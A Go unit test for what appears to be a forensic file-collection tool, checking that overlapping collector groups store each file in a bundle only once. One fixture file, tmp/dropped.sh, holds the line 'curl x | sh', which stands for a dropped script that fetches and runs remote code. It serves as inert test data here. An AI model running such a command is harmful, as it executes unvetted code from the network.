package collect

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestRunStoresAFileOnce: file groups whose includes overlap, and a group
// that reaches into a temporary place tmpplaces walks, store each file
// once, under the collector that reached it first. (Two records of one
// path in a bundle: the tar has two members of one name, extracting keeps
// the last, and SHA256SUMS lists a path twice: a log that grew between
// the two reads fails sha256sum -c on an intact bundle.)
func TestRunStoresAFileOnce(t *testing.T) {
	root := t.TempDir()
	for p, c := range map[string]string{
		"etc/hostname":   "host\n",
		"etc/hosts":      "127.0.0.1 localhost\n",
		"etc/ssh/config": "Port 22\n",
		"tmp/dropped.sh": "curl x | sh\n",
		"var/log/syslog": "line\n",
	} {
		if err := os.MkdirAll(filepath.Join(root, filepath.Dir(p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, p), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	collectors := []Collector{
		&TmpPlacesCollector{Places: []string{"/tmp"}},
		&Files{Group: "a", Include: []string{"/etc/hostname", "/etc/host*"}},
		&Files{Group: "b", Include: []string{"/etc/**", "/var/log/syslog"}},
		&Files{Group: "c", Include: []string{"/tmp/**", "/var/log/*"}},
	}
	sink := &recSink{} // fails on a path put twice
	if _, err := Run(context.Background(), &Env{Root: root, Now: time.Now}, collectors, sink); err != nil {
		t.Fatal(err)
	}
	by := map[string]string{}
	for _, r := range sink.recs {
		if strings.HasPrefix(string(r.Path), "files/") {
			by[string(r.Path)] = r.Collector
		}
	}
	want := map[string]string{
		"files/tmp/dropped.sh": "tmpplaces",
		"files/etc/hostname":   "a",
		"files/etc/hosts":      "a",
		"files/etc/ssh/config": "b",
		"files/var/log/syslog": "b",
	}
	for p, c := range want {
		if by[p] != c {
			t.Errorf("%s stored by %q, want %q", p, by[p], c)
		}
	}
	if len(by) != len(want) {
		t.Errorf("stored %v", by)
	}
}
